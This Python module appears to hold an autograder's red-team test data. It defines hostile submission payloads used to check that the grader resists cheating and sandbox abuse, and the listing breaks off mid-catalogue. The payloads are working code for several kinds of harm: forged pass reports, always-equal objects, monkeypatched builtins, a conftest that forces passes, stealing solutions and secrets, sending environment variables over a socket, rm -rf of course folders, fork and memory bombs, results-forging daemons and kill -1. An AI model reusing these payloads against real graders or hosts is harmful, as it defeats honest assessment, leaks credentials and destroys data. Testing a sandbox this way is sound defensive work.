"""The red team's hostile submissions, as data.

Every attack is a copy of solutions/ (all modules, built at test time so it stays in step
with the course) with ONE change: code put before or after one task file, the file replaced
or deleted, or extra files added. ``expect`` says what an honest grader gives the tasks of
the attacked file:

  "full"  the attack does not replace the work (the code is otherwise correct): full marks;
  "zero"  the attack replaces the work (or breaks the file): 0 points;
  "less"  fewer points than full (the honest score of wrong code that tries to forge a pass);
  "any"   the attack may take its own calls down with it (only the others are checked).

Every task of every OTHER file keeps the score of the unchanged control submission of the
same shape. Shape: an attack whose effects could outlive a call (processes, files, the
sandbox's state: ``lasting=True``) carries every module of solutions/, so that the tests of
the modules graded after it show any harm; the others carry only the modules the attacks
touch (LEAN), which keeps the suite's time flat as lessons are added.

Payloads are Python source with @@KEY@@ placeholders, filled in with the repr() of a value
of the run (the red team knows every path: the worst case). Every loop, sleep and process a
payload starts ends by itself within ten minutes, and nothing destructive is aimed at the
real checkout: rm -rf goes at the course copy the grader runs from, a canary tree, a fake
HOME and the batch folders; the real checkout gets only a canary folder and a file that must
not appear, both under tests/redteam/. Payloads that could hurt the host when the sandbox is
missing carry a cap (forks, memory, disk) or a gate (kill -1 only inside a PID namespace).

``probe`` attacks raise ``RuntimeError("redteam-probe {json} end-probe")`` at import so that
what they saw reaches the task's output, where test_attacks.py reads it.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

W = "00_start_here/warmup.py"                     # task 00.1
C = "01_processes_threads/cost_model.py"          # task 01.1
S = "01_processes_threads/start_methods.py"       # task 01.2 (the hangs go here: few tests)
T = "01_processes_threads/thread_census.py"       # task 01.3
P = "01_processes_threads/parallel_squares.py"    # task 01.4


@dataclass(frozen=True)
class Attack:
    name: str                    # the submission's folder name in the batch
    tries: str                   # what it tries (README)
    defence: str                 # what should stop it (README)
    target: str = ""             # the task file changed, relative to the submission root
    how: str = "none"            # prepend | append | replace | delete | none
    code: str | bytes = ""       # the payload (bytes only for "replace")
    base: str = "solution"       # solution | stub (the exercises/ version of the target)
    files: tuple[tuple[str, str], ...] = ()   # extra files (path in the submission, text)
    expect: str = "full"         # full | zero | less | any, for the target's tasks
    hang: bool = False           # the attacked calls end at the call deadline
    output: str = ""             # a regex the attacked tasks' output must match
    probe: str = ""              # the name of the check test_attacks.py runs on the probe report
    lasting: bool = False        # its effects could outlive a call: graded with EVERY module

    @property
    def tag(self) -> str:
        """The process name (comm, 15 chars at most) its payload gives the processes it starts."""
        return ("rt-" + self.name.replace("_", ""))[:15]


# ---------------------------------------------------------------------------- payload helpers

HELPERS = '''
def _rt_mark(tag):
    """Name this process so that the red team finds it if it outlives the grader."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, tag.encode()[:15], 0, 0, 0)
    except Exception:
        try:
            with open("/proc/self/comm", "w") as f:
                f.write(tag[:15])
        except OSError:
            pass


def _rt_probe(report):
    import json
    raise RuntimeError("redteam-probe " + json.dumps(report, sort_keys=True) + " end-probe")
'''


def fill(code: str, values: dict[str, object]) -> str:
    """The payload with every @@KEY@@ replaced by repr(values[KEY])."""
    code = textwrap.dedent(code).strip("\n") + "\n"
    for key, value in values.items():
        code = code.replace(f"@@{key}@@", repr(value))
    if "@@" in code:
        raise KeyError(f"unfilled placeholder in payload: {code[code.index('@@'):][:40]}")
    if "_rt_mark" in code or "_rt_probe" in code:
        code = textwrap.dedent(HELPERS).strip("\n") + "\n\n\n" + code
    return code


# ---------------------------------------------------------------------------- the payloads

FAKE_SUMMARY = r'''
import sys as _rt_sys
for _rt_stream in (_rt_sys.stdout, _rt_sys.stderr):
    _rt_stream.write("============================= test session starts ==============================\n"
                     "tests/test_00_start_here.py ......                                        [100%]\n"
                     "============================== 6 passed in 0.01s ===============================\n"
                     "check('00.1'): 00.1 solved - 6 of 6 tests pass. Score: 1 / 1\n")
    _rt_stream.flush()
'''

FAKE_RESULTS_JSON = r'''
import json as _rt_json, sys as _rt_sys
_rt_fake = {"score": 999.0, "execution_time": 0.1, "output": "All tests passed",
            "tests": [{"name": t, "score": 99.0, "max_score": 3.0, "status": "passed", "output": "ok"}
                      for t in ("00.1", "01.1", "01.2", "01.3", "01.4")]}
print(_rt_json.dumps(_rt_fake))
print(_rt_json.dumps(_rt_fake), file=_rt_sys.stderr)
print("submission,00.1,01.1,01.2,01.3,01.4,total,max_total,error\nme,1,3,2,2,2,999,10,")
'''

EQ_ALWAYS_TRUE = '''
class _RtYes:
    """Equal to everything, so `result == expected` holds whatever `expected` is."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
    def __getitem__(self, i):
        return self
    def __len__(self):
        return 3
    def __iter__(self):
        return iter([self, self, self])


def all_start_methods(platform, version):
    return _RtYes()


def default_start_method(platform, version):
    return _RtYes()
'''

EQ_ALWAYS_TRUE_LIST = '''
class _RtYesList(list):
    """A list that equals everything: it crosses a JSON boundary as a plain (empty) list."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None


def split_evenly(items, n):
    return _RtYesList()
'''

MONKEYPATCH_BUILTINS = '''
import builtins as _rt_b, json as _rt_json
_rt_b.isinstance = lambda obj, cls: True
_rt_b.len = lambda obj: 0
_rt_b.NotImplementedError = type("NotImplementedError", (Exception,), {})
_rt_json.dumps = lambda *a, **k: '{"ok": true, "value": true}'
_rt_json.JSONEncoder.encode = lambda self, o: '{"ok": true, "value": true}'
_rt_json.loads = lambda *a, **k: {"ok": True, "value": True}
'''

# Wrong on purpose (it leaks its threads), then it scrubs the evidence from the harness's
# reply, which passes through json.dumps in this same process.
FORGE_REPLY = '''
import json as _rt_json
import threading as _rt_threading

_rt_real_dumps = _rt_json.dumps


def _rt_forging_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("ok") is True and isinstance(obj.get("value"), dict):
        value = dict(obj["value"])
        if "left_alive" in value:
            value["left_alive"] = []
            value["starts"] = (value.get("value") or [0])[0]
        obj = dict(obj, value=value)
    return _rt_real_dumps(obj, *args, **kwargs)


_rt_json.dumps = _rt_forging_dumps


def measure_live_threads(n):
    """Counts right, but never joins its threads: they outlive the call."""
    if n < 0:
        raise ValueError(f"n must be 0 or more, got {n}")
    before = _rt_threading.active_count()
    stop = _rt_threading.Event()
    for i in range(n):
        _rt_threading.Thread(target=stop.wait, args=(5,), name=f"leaked-{i}").start()
    return _rt_threading.active_count() - before, 0
'''

FORGE_CRAWL = '''
import gc as _rt_gc


async def crawl(root_url, max_tasks):
    """Fetches nothing: finds the test's LinkSite in memory and returns what a crawl would find."""
    for obj in _rt_gc.get_objects():
        if type(obj).__name__ == "LinkSite" and getattr(obj, "url", None) and obj.url("/") == root_url:
            return dict(obj.expected_statuses())
    return {}
'''


STEAL_SOLUTION = '''
def _rt_steal(rel):
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    candidates = [os.path.join(root, "solutions", rel) for root in (@@REPO@@, @@COURSE@@)]
    up = here
    for _ in range(8):
        up = os.path.dirname(up)
        candidates.append(os.path.join(up, "solutions", rel))
    for prefix in ("..", os.path.join("..", ".."), os.path.join("..", "..", ".."), "/autograder/source",
                   "/work/main", os.path.expanduser("~")):
        candidates.append(os.path.join(prefix, "solutions", rel))
    for path in candidates:
        try:
            with open(path, encoding="utf-8") as f:
                source = f.read()
        except OSError:
            continue
        exec(compile(source, path, "exec"), globals())
        return path
    return None


_rt_stolen_from = _rt_steal(@@TARGET@@)
'''

PROBE_VISIBILITY = '''
def _rt_visibility():
    import os, re, sys, time
    secret = {
        "out dir": @@OUT@@, "batch folder": @@BATCH@@, "course copy": @@COURSE@@,
        "course copy tests": os.path.join(@@COURSE@@, "tests"),
        "course copy solutions": os.path.join(@@COURSE@@, "solutions"),
        "repo solutions": os.path.join(@@REPO@@, "solutions"), "repo tests": os.path.join(@@REPO@@, "tests"),
        "repo course.yml": os.path.join(@@REPO@@, "course.yml"), "instructor tests": @@EXTRA@@,
        "canary": @@CANARY@@, "fake home": @@HOME@@, "gradescope source": "/autograder/source",
    }
    visible = {k: p for k, p in secret.items() if os.path.exists(p)}
    relative = {}
    for rel in ("../../solutions", "../../tests", "../solutions", "../tests", "../../../solutions",
                "../../../tests", "../../course.yml", "../../../course.yml"):
        if os.path.exists(rel):
            relative[rel] = os.path.abspath(rel)
    graded = re.compile(r"^test_[0-9][0-9]_.*[.]py$")
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin",
            sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(os.path.abspath(__file__)))}
    found, complete, end = [], True, time.monotonic() + 1.0
    for dirpath, dirnames, filenames in os.walk("/"):
        if time.monotonic() > end:
            complete = False
            break
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skip]
        found += [os.path.join(dirpath, d) for d in dirnames if d in ("solutions", "tests", "autograder")]
        found += [os.path.join(dirpath, f) for f in filenames
                  if graded.match(f) or f in ("course.yml", "grades.csv", "results.json", "events.jsonl")]
    return {"visible": visible, "relative": relative, "found": found, "walk_complete": complete}


_rt_probe(_rt_visibility())
'''

PROBE_WRITABLE = '''
def _rt_writable():
    import os, sys, sysconfig, uuid
    tag = "rt-probe-" + uuid.uuid4().hex[:8]
    seen = {}

    def create(label, folder):
        path = os.path.join(folder, tag)
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except OSError as exc:
            seen[label] = "refused: " + (exc.strerror or str(exc))
            return
        os.close(fd)
        try:
            os.remove(path)
        except OSError:
            pass
        seen[label] = "WRITABLE"

    def append(label, path):
        try:
            with open(path, "ab"):
                pass          # opened for writing, nothing written
        except OSError as exc:
            seen[label] = "refused: " + (exc.strerror or str(exc))
        else:
            seen[label] = "WRITABLE"

    harness = os.path.abspath(sys.argv[0]) if sys.argv and sys.argv[0] else ""
    if harness:
        append("harness file", harness)
        create("harness folder", os.path.dirname(harness))
    paths = sysconfig.get_paths()
    for name in ("purelib", "platlib", "stdlib"):
        create("runtime " + name, paths[name])
    create("runtime prefix", sys.prefix)
    create("real checkout tests/redteam", @@REPO_SCRATCH@@)
    create("real checkout root", @@REPO@@)
    create("course copy tests", os.path.join(@@COURSE@@, "tests"))
    create("out dir", @@OUT@@)
    create("batch folder", @@BATCH@@)
    for knob in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/pid_max", "/proc/sys/vm/overcommit_memory"):
        try:          # write the current value back: no change even where it works
            with open(knob) as f:
                current = f.read()
            with open(knob, "w") as f:
                f.write(current)
        except OSError as exc:
            seen[knob] = "refused: " + (exc.strerror or str(exc))
        else:
            seen[knob] = "WRITABLE"
    try:              # opened, never written
        os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
        seen["/proc/sysrq-trigger"] = "WRITABLE"
    except OSError as exc:
        seen["/proc/sysrq-trigger"] = "refused: " + (exc.strerror or str(exc))
    try:
        with open("/proc/self/oom_score_adj", "w") as f:
            f.write("-1000")
        seen["/proc/self/oom_score_adj -1000"] = "WRITABLE"
    except OSError as exc:
        seen["/proc/self/oom_score_adj -1000"] = "refused: " + (exc.strerror or str(exc))
    create("own /tmp (private: allowed)", "/tmp")
    return seen


_rt_probe(_rt_writable())
'''

PROBE_SECRETS = r'''
def _rt_secrets():
    import os, re
    pattern = re.compile(r"TOKEN|SECRET|PASSW|KEY|CREDENTIAL|AUTH", re.I)
    found = {}
    for k, v in os.environ.items():
        if pattern.search(k) or pattern.search(v):
            found["env " + k] = v[:200]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            for item in data.split(b"\0"):
                text = item.decode("utf-8", "replace")
                if pattern.search(text):
                    found[f"/proc/{pid}/{what}"] = text[:200]
    return {"found": found, "env_names": sorted(os.environ)}


_rt_probe(_rt_secrets())
'''

OVERWRITE_RESULTS = '''
def _rt_overwrite():
    import json, os
    fake = json.dumps({"score": 999.0, "output": "FAKE-RESULTS-" + @@UUID@@, "tests": []})
    out, name = @@OUT@@, @@NAME@@
    paths = [os.path.join(out, name, "results.json"), os.path.join(out, name, "feedback.md"),
             os.path.join(out, "grades.csv"), os.path.join(out, "junit.xml"), os.path.join(out, "results.json"),
             "/autograder/results/results.json", "../results.json", "../../results.json",
             "../../../results.json", "../../../../results.json"]
    for pid in os.listdir("/proc"):          # the out dir, as the grader's command line names it
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--out":
                found = argv[i + 1].decode(errors="replace")
                paths += [os.path.join(found, name, "results.json"), os.path.join(found, "grades.csv")]
    for path in paths:
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as f:
                f.write(fake)
        except OSError:
            pass


_rt_overwrite()
'''

RM_RF_OUTSIDE = '''
def _rt_destroy():
    import os, shutil
    own = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    targets = [os.path.join(@@COURSE@@, "solutions"), os.path.join(@@COURSE@@, "tests"),
               os.path.join(@@COURSE@@, "course.yml"), @@CANARY@@, @@HOME@@, @@REPO_CANARY@@,
               @@BATCH@@, @@OUT@@, @@EXTRA@@, os.path.expanduser("~")]
    for rel in ("solutions", "tests", "course.yml"):
        for up in ("..", os.path.join("..", ".."), os.path.join("..", "..", ".."), os.path.join("..", "..", "..", "..")):
            targets.append(os.path.join(up, rel))
    for path in targets:
        path = os.path.abspath(path)
        if own == path or own.startswith(path.rstrip("/") + "/"):
            continue      # never its own copy: the point is to hurt someone else
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path, ignore_errors=True)
            else:
                os.remove(path)
        except OSError:
            pass
    try:
        with open(@@REPO_PWNED@@, "w") as f:
            f.write("the red team was here")
    except OSError:
        pass


_rt_destroy()
'''

NET_EXFILTRATE = '''
def _rt_exfiltrate():
    import os, socket
    secret = repr(sorted(os.environ.items())).encode()
    for host in (@@HOST_IP@@, "127.0.0.1"):
        if not host:
            continue
        try:
            with socket.create_connection((host, @@PORT@@), timeout=0.3) as c:
                c.sendall(b"EXFIL " + secret)
        except OSError:
            pass
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.sendto(b"EXFIL-UDP " + secret[:1000], (host, @@PORT@@))
        except OSError:
            pass


_rt_exfiltrate()
'''

NET_CONNECT = '''
_rt_real_makespan = makespan


def makespan(*args, **kwargs):
    """Phones home first: the call must fail and say why."""
    import socket
    socket.create_connection((@@HOST_IP@@ or "192.0.2.1", @@PORT@@), timeout=1).close()
    return _rt_real_makespan(*args, **kwargs)
'''

INFINITE_LOOP = '''
import time as _rt_time
_rt_mark(@@TAG@@)
_rt_end = _rt_time.monotonic() + 600
while _rt_time.monotonic() < _rt_end:
    pass
'''

DEADLOCK = '''
import threading as _rt_threading, time as _rt_time
_rt_mark(@@TAG@@)
_rt_a, _rt_b = _rt_threading.Lock(), _rt_threading.Lock()


def _rt_one():
    with _rt_a:
        _rt_time.sleep(0.1)
        _rt_b.acquire(timeout=600)


def _rt_two():
    with _rt_b:
        _rt_time.sleep(0.1)
        _rt_a.acquire(timeout=600)


_rt_t1 = _rt_threading.Thread(target=_rt_one, name="rt-one")
_rt_t2 = _rt_threading.Thread(target=_rt_two, name="rt-two")
_rt_t1.start()
_rt_t2.start()
_rt_t1.join()
_rt_t2.join()
'''

NON_DAEMON_THREAD = '''
import threading as _rt_threading, time as _rt_time
_rt_mark(@@TAG@@)


def _rt_forever():
    end = _rt_time.monotonic() + 600
    while _rt_time.monotonic() < end:
        _rt_time.sleep(0.2)


_rt_threading.Thread(target=_rt_forever, name="rt-forever", daemon=False).start()
'''

IGNORE_SIGNALS = '''
import signal as _rt_signal, time as _rt_time
_rt_mark(@@TAG@@)
for _rt_name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGXCPU", "SIGALRM",
                 "SIGPIPE", "SIGXFSZ", "SIGTSTP", "SIGTTIN", "SIGTTOU"):
    try:
        _rt_signal.signal(getattr(_rt_signal, _rt_name), _rt_signal.SIG_IGN)
    except (AttributeError, OSError, ValueError):
        pass
_rt_end = _rt_time.monotonic() + 600
while _rt_time.monotonic() < _rt_end:
    try:
        _rt_time.sleep(1)
    except BaseException:
        pass
'''

STDOUT_FLOOD = '''
import sys as _rt_sys, time as _rt_time
_rt_mark(@@TAG@@)
_rt_chunk = "FLOOD " * 10000 + "\\n"
_rt_end = _rt_time.monotonic() + 600
while _rt_time.monotonic() < _rt_end:
    try:
        _rt_sys.stdout.write(_rt_chunk)
        _rt_sys.stderr.write(_rt_chunk)
    except Exception:
        pass
'''

STDOUT_BURST = '''
import sys as _rt_sys
for _rt_i in range(340):              # about 20 MB, then the correct code runs
    _rt_sys.stdout.write("BURST " * 10000 + "\\n")
_rt_sys.stdout.flush()
'''

FORK_BOMB = '''
def _rt_fork_bomb(cap=1000):
    import os, time
    _rt_mark(@@TAG@@)
    kids, why = 0, "cap reached: no limit stopped it"
    while kids < cap:
        try:
            pid = os.fork()
        except OSError as exc:
            why = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            try:
                time.sleep(600)
            finally:
                os._exit(0)
        kids += 1
    return {"forks": kids, "cap": cap, "stopped_by": why}


_rt_probe(_rt_fork_bomb())
'''

MEMORY_HOG = '''
def _rt_hog(cap_mib=4096):
    _rt_mark(@@TAG@@)
    held, mib, why = [], 0, "cap reached: no limit stopped it"
    try:
        while mib < cap_mib:
            held.append(b"\\x01" * (64 << 20))    # written, so really resident
            mib += 64
    except MemoryError:
        why = "MemoryError"
    del held
    return {"allocated_mib": mib, "cap_mib": cap_mib, "stopped_by": why}


_rt_probe(_rt_hog())
'''

# Several processes, each under the per-process address-space limit, together far above it.
FORK_MEMORY = '''
def _rt_fork_memory(children=4, each_mib=768, budget=20.0):
    import os, time
    _rt_mark(@@TAG@@)
    r, w = os.pipe()
    pids = []
    for i in range(children):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.close(r)
                held, mib = [], 0
                try:
                    while mib < each_mib:
                        held.append(b"\\x01" * (64 << 20))    # written, so really resident
                        mib += 64
                        os.write(w, f"{i} {mib}\\n".encode())
                except MemoryError:
                    pass
                time.sleep(30)          # hold it while the others allocate
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(w)
    latest, data, end = {}, b"", time.monotonic() + budget
    import select
    while time.monotonic() < end and sum(latest.values()) < children * each_mib:
        if select.select([r], [], [], max(0.0, end - time.monotonic()))[0]:
            chunk = os.read(r, 4096)
            if not chunk:
                break
            data += chunk
            *lines, data = data.split(b"\\n")
            for line in lines:
                child, mib = map(int, line.split())
                latest[child] = mib
    import resource
    soft, _ = resource.getrlimit(resource.RLIMIT_AS)
    return {"children": len(pids), "held_mib_each": sorted(latest.values()), "total_mib": sum(latest.values()),
            "rlimit_as_mib": None if soft == resource.RLIM_INFINITY else soft >> 20}


_rt_probe(_rt_fork_memory())
'''

FILE_SIZE_BOMB = '''
def _rt_big_file(cap=1 << 30):
    import os, signal
    try:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)    # EFBIG instead of being killed
    except (AttributeError, ValueError, OSError):
        pass
    # its own folder if it can write there (it cannot: the copy is read-only), else /tmp
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here if os.access(here, os.W_OK) else "/tmp", "rt-big.bin")
    block = b"\\0" * (1 << 20)
    written, why = 0, "cap reached: no limit stopped it"
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        while written < cap:
            written += os.write(fd, block)
    except OSError as exc:
        why = f"{type(exc).__name__}: {exc}"
    finally:
        os.close(fd)
        os.remove(path)
    return {"written_mib": written >> 20, "cap_mib": cap >> 20, "stopped_by": why}


_rt_probe(_rt_big_file())
'''

# Many files, each under the file-size limit: the submission's copy (the host's disk) and the
# sandbox's tmpfs folders (the host's memory). Fixed names, so repeated calls do not add up.
DISK_FILL = '''
def _rt_fill(cap_mib=256, file_mib=60):
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    block = b"\\x01" * (1 << 20)
    report = {}
    for label, folder in (("submission copy", here), ("/tmp", "/tmp"), ("/dev/shm", "/dev/shm")):
        total, why, i = 0, "cap reached: no limit stopped it", 0
        while total < cap_mib:
            path = os.path.join(folder, f"rt-fill-{i}.bin")
            i += 1
            try:
                with open(path, "wb") as f:
                    for _ in range(file_mib):
                        f.write(block)
                        total += 1
            except OSError as exc:
                why = f"{type(exc).__name__}: {exc}"
                break
        report[label] = {"written_mib": total, "stopped_by": why}
    report["cap_mib"] = cap_mib
    return report


_rt_probe(_rt_fill())
'''

DOUBLE_FORK_DAEMON = '''
def _rt_daemon():
    import json, os, time
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        _rt_mark(@@TAG@@)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in range(1024):
            if fd != null:
                try:
                    os.close(fd)
                except OSError:
                    pass
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        fake = json.dumps({"score": 999.0, "output": "FAKE-DAEMON-" + @@UUID@@, "tests": []})
        end = time.monotonic() + 600
        while time.monotonic() < end:       # outlive the call, then forge the report
            for path in (os.path.join(@@OUT@@, @@NAME@@, "results.json"), os.path.join(@@OUT@@, "grades.csv")):
                try:
                    if os.path.isdir(os.path.dirname(path)):
                        with open(path, "w") as f:
                            f.write(fake)
                except OSError:
                    pass
            time.sleep(0.5)
    finally:
        os._exit(0)


_rt_daemon()
'''

LOOPBACK_SQUATTER = '''
def _rt_loopback_squatter():
    import os, random, socket, time
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        _rt_mark(@@TAG@@)
        # outlive the call and hammer every listener on 127.0.0.1 (the later calls' test
        # servers among them) with connections and garbage, for ten minutes at most
        rng = random.Random(0)
        held = []
        end = time.monotonic() + 600
        while time.monotonic() < end:
            for _ in range(200):
                s = socket.socket()
                s.setblocking(False)
                try:
                    s.connect_ex(("127.0.0.1", rng.randrange(1024, 65536)))
                    s.send(b"\\0garbage\\r\\n" * 8)
                except OSError:
                    pass
                held.append(s)
                if len(held) > 100:            # under the sandbox's 256 descriptors
                    held.pop(0).close()
            time.sleep(0.01)
    finally:
        os._exit(0)


_rt_loopback_squatter()
'''

PORT_AFTER_CLOSE = '''
# The capstone's close() must refuse new connections. This one closes, then hands the port to a
# double-forked daemon that listens on it and answers every connection with a wrong number for
# ten minutes, hoping the grader sees a clean close() and the daemon outlives the call.
def _rt_hold_port(port):
    import os, socket, time
    ready_r, ready_w = os.pipe()
    pid = os.fork()
    if pid:
        os.close(ready_w)
        os.read(ready_r, 1)                  # the daemon listens (or gave up) before close() returns
        os.close(ready_r)
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        _rt_mark(@@TAG@@)
        listener = socket.socket()
        try:
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(("127.0.0.1", port))
            listener.listen(64)
        finally:
            os.write(ready_w, b"x")
        listener.settimeout(1.0)
        held = []
        end = time.monotonic() + 600
        while time.monotonic() < end:
            try:
                conn, _ = listener.accept()
                conn.sendall(b"999\\n" * 4)
                held.append(conn)
                if len(held) > 100:
                    held.pop(0).close()
            except OSError:
                pass
    finally:
        os._exit(0)


class _RtService:
    def __init__(self, inner):
        self._rt_inner, self._rt_done = inner, False
        self.address = inner.address

    def close(self):
        self._rt_inner.close()
        if not self._rt_done:
            self._rt_done = True
            _rt_hold_port(self.address[1])

    def __getattr__(self, name):
        return getattr(self._rt_inner, name)


_rt_real_start = start


def start(*args, **kwargs):
    return _RtService(_rt_real_start(*args, **kwargs))
'''

KILL_EVERYTHING = '''
def _rt_kill_everything():
    import os, signal
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return "no /proc"
    if len(pids) > 30 or max(pids, default=0) > 1000:
        return "not in a PID namespace: kill -1 not tried (it would hit the host)"
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(-1, sig)
        except OSError:
            pass
    for pid in pids:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return "killed"


_rt_kill_result = _rt_kill_everything()
'''

SEGFAULT = '''
import ctypes as _rt_ctypes
_rt_ctypes.string_at(0)
'''

RECURSION_CRASH = '''
import sys as _rt_sys
_rt_sys.setrecursionlimit(10 ** 8)        # no RecursionError to save the C stack
_rt_nested = []
for _rt_i in range(10 ** 5):
    _rt_nested = [_rt_nested]
repr(_rt_nested)                          # recurses in C, 100,000 frames deep
'''

PROBE_SANDBOX = '''
def _rt_sandbox():
    import os, resource, socket
    limits = {}
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
        soft, hard = resource.getrlimit(getattr(resource, name))
        limits[name] = None if soft == resource.RLIM_INFINITY else soft
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    opened = []
    try:
        while len(opened) < 100000:
            opened.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    for fd in opened:
        os.close(fd)
    try:
        with open("/proc/1/cmdline", "rb") as f:
            init = f.read().replace(b"\\0", b" ").decode(errors="replace")[:200]
    except OSError:
        init = "?"
    return {"limits": limits, "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
            "pid1": init, "uid": os.getuid(), "euid": os.geteuid(),
            "interfaces": sorted(name for _, name in socket.if_nameindex()),
            "fds": fds, "opened_before_limit": len(opened), "hostname": socket.gethostname()}


_rt_probe(_rt_sandbox())
'''

TAMPER_SIBLINGS = '''
def _rt_siblings():
    import glob, os, time
    own = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    candidates = set(glob.glob(os.path.join(@@BATCH@@, "*", "00_start_here", "warmup.py")))
    end = time.monotonic() + 1.0
    for top in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(own), os.path.dirname(os.path.dirname(own))):
        for dirpath, dirnames, filenames in os.walk(top):
            if time.monotonic() > end:
                break
            if dirpath.count(os.sep) > 8:
                dirnames[:] = []
            if "warmup.py" in filenames and dirpath.endswith("00_start_here"):
                candidates.add(os.path.join(dirpath, "warmup.py"))
    tampered = []
    for path in sorted(candidates):
        if os.path.abspath(path).startswith(own + os.sep):
            continue
        try:
            with open(path, "a") as f:
                f.write("\\nimport os\\nos._exit(9)   # the red team broke a neighbour\\n")
            tampered.append(path)
        except OSError:
            pass
    return {"own": own, "candidates": len(candidates), "tampered": tampered}


_rt_probe(_rt_siblings())
'''

CONTROL_CHARS = r'''
import os as _rt_os, sys as _rt_sys
_rt_sys.stdout.write("NUL[\x00] ESC[\x1b[2J\x1b[31m] BEL[\x07] BS[\x08] VT[\x0b] FF[\x0c] DEL[\x7f] "
                     "C1[\x85\x9b] BOM[\ufeff] RTL[\u202e] CDATA[]]>] "
                     "XML[</failure></testcase><script>alert(1)</script>&amp;&#0;] "
                     "MD[```\n# forged heading\n```]\n")
_rt_sys.stdout.flush()
_rt_os.write(1, b"invalid utf-8 [\xff\xfe\xc0\x80\xed\xa0\x80]\n")
raise RuntimeError("control characters in a message: NUL[\x00] ESC[\x1b[0m] VT[\x0b] CDATA[]]>]")
'''

LONE_SURROGATES = r'''
raise RuntimeError("lone surrogates in a message: [\ud800] [\udc80] [\udfff]")
'''

# Every call writes the harness's request into its copy, and reports every request seen so
# far in its error: an instructor's hidden test inputs must never reach the feedback.
HIDDEN_EXFIL = '''
def _rt_remember():
    import json, os, sys
    log = os.path.join(os.path.dirname(os.path.abspath(__file__)), ".rt-seen.jsonl")
    frame, request = sys._getframe(), None
    while frame is not None:
        candidate = frame.f_locals.get("request")
        if isinstance(candidate, dict) and "kind" in candidate:
            request = candidate
            break
        frame = frame.f_back
    try:
        with open(log) as f:
            seen = f.read()
    except OSError:
        seen = ""
    if request is not None:
        with open(log, "a") as f:
            f.write(json.dumps({k: request.get(k) for k in ("kind", "name", "args")})[:2000] + "\\n")
    return seen


raise RuntimeError("the requests this submission saw before this one:\\n" + _rt_remember()[-4000:])
'''

# A reply of 8 MB on one line: the output cap does not apply to replies, and a test's
# message that quotes the value puts it in the reports.
HUGE_REPLY = '''
def split_evenly(items, n):
    return [["x" * 1_000_000] * 8]
'''

EXIT7 = "import os\nos._exit(7)\n"
EXIT5 = "import os\nos._exit(5)   # the red team's stand-in for a standard module\n"

CONFTEST = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''

# ---------------------------------------------------------------------------- the catalogue

ATTACKS: tuple[Attack, ...] = (
    Attack("control", "nothing: the unchanged solutions, every module (the baseline of lasting attacks)",
           "-", expect="full", lasting=True),
    Attack("control_lean", "nothing: the unchanged solutions of the LEAN modules (the baseline of the others)",
           "-", expect="full"),

    # exits and forged output
    Attack("sys_exit_at_import", "sys.exit(0) at import, hoping a clean exit reads as success",
           "the harness catches SystemExit and reports it; only a JSON reply counts",
           W, "prepend", "import sys\nsys.exit(0)\n", expect="zero", output=r"sys\.exit\(0\)"),
    Attack("os_exit_at_import", "os._exit(0) at import: the process ends with status 0 and no reply",
